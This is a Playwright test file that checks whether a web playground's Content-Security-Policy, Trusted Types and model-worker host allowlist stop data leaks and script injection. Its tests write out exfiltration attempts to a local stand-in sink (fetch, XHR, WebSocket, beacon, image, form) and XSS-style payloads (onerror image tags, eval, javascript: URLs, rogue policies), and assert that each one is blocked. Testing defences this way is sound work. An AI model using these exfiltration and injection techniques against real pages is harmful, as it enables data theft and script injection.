/**
 * Private by construction, in real Chromium: the release page's Content-Security-Policy and
 * Trusted Types stop a script running in the page from sending data to another origin or running
 * injected script, and the model worker (through the test build's harness page) refuses any host
 * that is neither the page's, nor the model's catalog host, nor a custom URL the user entered.
 *
 * "Another origin" is a sink server on 127.0.0.1 at another port: were the policy missing, every
 * attempt would reach it, so its request log is the proof that nothing left. Every request the
 * browser makes is recorded too, and anything off 127.0.0.1 is aborted and fails the test.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type BrowserContext } from '@playwright/test';
import type { TrustedTypesWindow } from 'trusted-types/lib';
import { installProbes, pwnedHits, recordCspViolations } from './support/pageProbes.ts';
import { HARNESS_PATH, TEST_BUILD_URL } from './testBuild.ts';

/** An HTTP (and WebSocket upgrade) server on another origin that logs whatever reaches it and answers 404. */
async function startSink(): Promise<{ origin: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(404, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  server.on('upgrade', (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/** Records every request the context makes; aborts (and reports) any that would leave 127.0.0.1. */
async function guardNetwork(context: BrowserContext): Promise<{ requested: string[]; offMachine: string[] }> {
  const requested: string[] = [];
  const offMachine: string[] = [];
  await context.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    requested.push(url.href);
    if (url.hostname === '127.0.0.1') return route.continue();
    offMachine.push(url.href);
    return route.abort('blockedbyclient');
  });
  return { requested, offMachine };
}

let sink: Awaited<ReturnType<typeof startSink>>;

test.beforeAll(async () => {
  sink = await startSink();
});

test.afterAll(async () => {
  await new Promise((resolve) => sink.server.close(resolve));
});

test.beforeEach(() => {
  sink.hits.length = 0;
});

test.describe('the page', () => {
  test('blocks every way a script in the page could send data to another origin', async ({ page, context }) => {
    const { offMachine } = await guardNetwork(context);
    const violations = await recordCspViolations(context);
    await page.goto('./');
    await expect(page.getByRole('heading', { level: 1, name: 'WikiPersona Playground' })).toBeVisible();

    const outcomes = await page.evaluate(async (sinkOrigin) => {
      const secret = encodeURIComponent('my private preference pairs');
      const settle = (work: (done: (outcome: string) => void) => void) =>
        new Promise<string>((resolve) => {
          const timer = setTimeout(() => resolve('no answer in 3 s'), 3000);
          try {
            work((outcome) => {
              clearTimeout(timer);
              resolve(outcome);
            });
          } catch (error) {
            clearTimeout(timer);
            resolve(`threw ${(error as Error).name}`);
          }
        });
      return {
        fetch: await fetch(`${sinkOrigin}/fetch?d=${secret}`, { method: 'POST', body: secret, mode: 'no-cors' }).then(
          () => 'sent',
          (error: Error) => `rejected ${error.name}`,
        ),
        xhr: await settle((done) => {
          const xhr = new XMLHttpRequest();
          xhr.onload = () => done('sent');
          xhr.onerror = () => done('error');
          xhr.open('POST', `${sinkOrigin}/xhr`);
          xhr.send(secret);
        }),
        websocket: await settle((done) => {
          const socket = new WebSocket(`${sinkOrigin.replace('http', 'ws')}/socket?d=${secret}`);
          socket.onopen = () => done('open');
          socket.onerror = () => done('error');
        }),
        eventSource: await settle((done) => {
          const events = new EventSource(`${sinkOrigin}/events?d=${secret}`);
          events.onopen = () => done('open');
          events.onerror = () => {
            events.close();
            done('error');
          };
        }),
        beacon: navigator.sendBeacon(`${sinkOrigin}/beacon`, secret) ? 'queued' : 'refused',
        image: await settle((done) => {
          const image = new Image();
          image.onload = () => done('loaded');
          image.onerror = () => done('error');
          image.src = `${sinkOrigin}/pixel.png?d=${secret}`;
        }),
        form: await settle((done) => {
          const form = document.createElement('form');
          form.method = 'post';
          form.action = `${sinkOrigin}/form`;
          form.target = '_blank';
          document.body.append(form);
          form.submit();
          form.remove();
          setTimeout(() => done('submitted'), 500);
        }),
      };
    }, sink.origin);

    expect(outcomes).toMatchObject({ fetch: 'rejected TypeError', xhr: 'error', eventSource: 'error', image: 'error' });
    expect(['error', 'threw SecurityError']).toContain(outcomes.websocket);
    // A little time for anything that was queued (the beacon, the form) to go out, were it allowed.
    await page.waitForTimeout(1000);
    expect(sink.hits).toEqual([]);
    expect(offMachine).toEqual([]);
    // Each attempt was stopped by the policy, which reported it.
    const sinkPort = new URL(sink.origin).port;
    const blocked = violations.filter((violation) => URL.canParse(violation.blocked) && new URL(violation.blocked).port === sinkPort);
    expect(blocked.map((violation) => `${violation.directive} ${new URL(violation.blocked).pathname}`).sort()).toEqual(
      ['connect-src /beacon', 'connect-src /events', 'connect-src /fetch', 'connect-src /socket', 'connect-src /xhr', 'form-action /form', 'img-src /pixel.png'],
    );
  });

  test('runs no injected script, and no script can make trusted HTML or script of its own', async ({ page, context }) => {
    await guardNetwork(context);
    await installProbes(context);
    const violations = await recordCspViolations(context);
    await page.goto('./');
    await expect(page.getByRole('heading', { level: 1, name: 'WikiPersona Playground' })).toBeVisible();

    const outcomes = await page.evaluate(async () => {
      // Each attempt runs as a task of the page's own (code evaluated through DevTools may eval).
      const attempt = (work: () => void) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              work();
              resolve('done');
            } catch (error) {
              resolve(`threw ${(error as Error).name}`);
            }
          }),
        );
      const host = document.createElement('div');
      document.body.append(host);
      const results = {
        innerHtml: await attempt(() => (host.innerHTML = `<img src="data:," onerror="window.__pwned='innerHTML'">`)),
        insertAdjacentHtml: await attempt(() => host.insertAdjacentHTML('beforeend', `<img src="data:," onerror="window.__pwned='adjacent'">`)),
        domParser: await attempt(() => new DOMParser().parseFromString(`<script>window.__pwned='parsed'</script>`, 'text/html')),
        documentWrite: await attempt(() => document.write(`<script>window.__pwned='write'</script>`)),
        scriptText: await attempt(() => {
          const script = document.createElement('script');
          script.text = "window.__pwned='script-text'";
          document.body.append(script);
        }),
        scriptTextNode: await attempt(() => {
          // Text added as a node bypasses the `text` sink: the policy's inline-script check stops it.
          const script = document.createElement('script');
          script.append(document.createTextNode("window.__pwned='script-node'"));
          document.body.append(script);
        }),
        scriptSrc: await attempt(() => {
          const script = document.createElement('script');
          script.src = "data:text/javascript,window.__pwned='script-src'";
          document.body.append(script);
        }),
        handlerAttribute: await attempt(() => {
          host.setAttribute('onclick', "window.__pwned='onclick'");
          host.click();
        }),
        evaluate: await attempt(() => eval("window.__pwned='eval'")),
        functionConstructor: await attempt(() => new Function("window.__pwned='function'")()),
        stringTimer: await attempt(() => setTimeout("window.__pwned='timer'" as unknown as () => void)),
        javascriptUrl: await attempt(() => {
          const link = document.createElement('a');
          link.href = "javascript:window.__pwned='javascript-url'";
          document.body.append(link);
          link.click();
        }),
        ownPolicy: await attempt(() => (window as unknown as TrustedTypesWindow).trustedTypes?.createPolicy('playground-markdown', { createHTML: (html: string) => html })),
        newPolicyName: await attempt(() => (window as unknown as TrustedTypesWindow).trustedTypes?.createPolicy('attacker', { createHTML: (html: string) => html })),
      };
      await new Promise((resolve) => setTimeout(resolve, 500));
      return results;
    });

    // Trusted Types refuse strings at every script sink, and both a policy name already taken and an unlisted one.
    for (const sink of ['innerHtml', 'insertAdjacentHtml', 'domParser', 'documentWrite', 'scriptText', 'scriptSrc', 'handlerAttribute', 'ownPolicy', 'newPolicyName'] as const) {
      expect(outcomes[sink], sink).toBe('threw TypeError');
    }
    expect(outcomes.evaluate).toBe('threw EvalError');
    expect(outcomes.functionConstructor).toBe('threw EvalError');
    expect(await pwnedHits(page)).toEqual([]);
    const directives = new Set(violations.map((violation) => violation.directive));
    for (const directive of ['require-trusted-types-for', 'trusted-types', 'script-src-elem']) expect(directives, directive).toContain(directive);
  });

  test('states which hosts the model worker may contact, for the model chosen and the URLs entered', async ({ page, context, baseURL }) => {
    const { offMachine } = await guardNetwork(context);
    const violations = await recordCspViolations(context);
    const origin = new URL(baseURL ?? '').origin;
    await page.goto('./');
    const model = page.getByRole('combobox', { name: 'Model', exact: true });
    const hosts = page.getByTestId('worker-hosts');

    await model.selectOption('tiny-llama-random');
    await expect(hosts).toHaveText(`Downloads only from this site (${origin}); the model worker refuses any other address.`);
    await model.selectOption('smollm2-360m-instruct-q4f32_1');
    await expect(hosts).toContainText(`this site (${origin}) and https://huggingface.co, https://raw.githubusercontent.com (and the file servers they redirect to)`);
    await model.selectOption('zephyr-7b-beta-q4f32_1');
    await expect(hosts).toContainText(`this site (${origin}), until you enter its URLs`);
    await page.getByLabel('Weights folder URL').fill('https://models.example.org/me/zephyr-7b-beta-q4f32_1-MLC');
    await page.getByLabel('Model library URL (.wasm)').fill('https://models.example.org/me/zephyr-q4f32_1-webgpu.wasm');
    await page.getByRole('button', { name: 'Use these URLs' }).click();
    await expect(hosts).toHaveText(`Downloads only from this site (${origin}) and https://models.example.org (and the file servers it redirects to); the model worker refuses any other address.`);
    expect(offMachine).toEqual([]);
    expect(violations).toEqual([]);
  });
});

test.describe('the model worker', () => {
  test.use({ baseURL: TEST_BUILD_URL });

  test('refuses a host that is neither the page, the catalog entry nor a URL the user entered, and contacts the one entered', async ({ page, context }) => {
    const { requested, offMachine } = await guardNetwork(context);
    const violations = await recordCspViolations(context);
    await page.goto(HARNESS_PATH);
    await expect(page.locator('#status')).toHaveText('ready');
    const tiny = { model: 'tiny-llama', device: 'wasm', localModelPath: '../../../models/', wasmPaths: '../../../ort/', useBrowserCache: false } as const;

    // Transformers.js looks for a model the page does not serve on the Hugging Face hub.
    const hub = await page.evaluate((options) => window.harness.tryLoad({ backend: 'transformers', options }), { ...tiny, model: 'someone/not-served-here', allowRemote: true });
    expect(hub).toMatchObject({ ok: false, error: { code: 'network-refused', message: expect.stringContaining('refused to contact https://huggingface.co (') } });

    // ONNX Runtime's files from anywhere but the page (its default is a CDN) are refused before the engine starts.
    const runtime = await page.evaluate((options) => window.harness.tryLoad({ backend: 'transformers', options }), { ...tiny, wasmPaths: `${sink.origin}/ort/` });
    expect(runtime).toMatchObject({ ok: false, error: { code: 'network-refused', message: expect.stringContaining(`refused to contact ${sink.origin} (`) } });
    expect(sink.hits).toEqual([]);

    // A self-hosted WebLLM build at the URLs the user entered is contacted (the sink has no model, so the load then fails).
    const custom = await page.evaluate(
      (sinkOrigin) => window.harness.tryLoad({ backend: 'webllm', options: { modelId: 'zephyr-7b-beta-q4f32_1', catalogUrl: '../../../models.json', modelUrl: `${sinkOrigin}/zephyr`, modelLibUrl: `${sinkOrigin}/zephyr.wasm` } }),
      sink.origin,
    );
    expect(custom.ok).toBe(false);
    expect(custom).not.toMatchObject({ error: { code: 'network-refused' } });
    expect(sink.hits.some((hit) => hit.startsWith('GET /zephyr/'))).toBe(true);

    // The tiny model served with the page still loads.
    expect(await page.evaluate((options) => window.harness.tryLoad({ backend: 'transformers', options }), tiny)).toMatchObject({ ok: true });
    expect(requested.filter((url) => url.includes('huggingface.co'))).toEqual([]);
    expect(offMachine).toEqual([]);
    expect(violations).toEqual([]);
  });
});
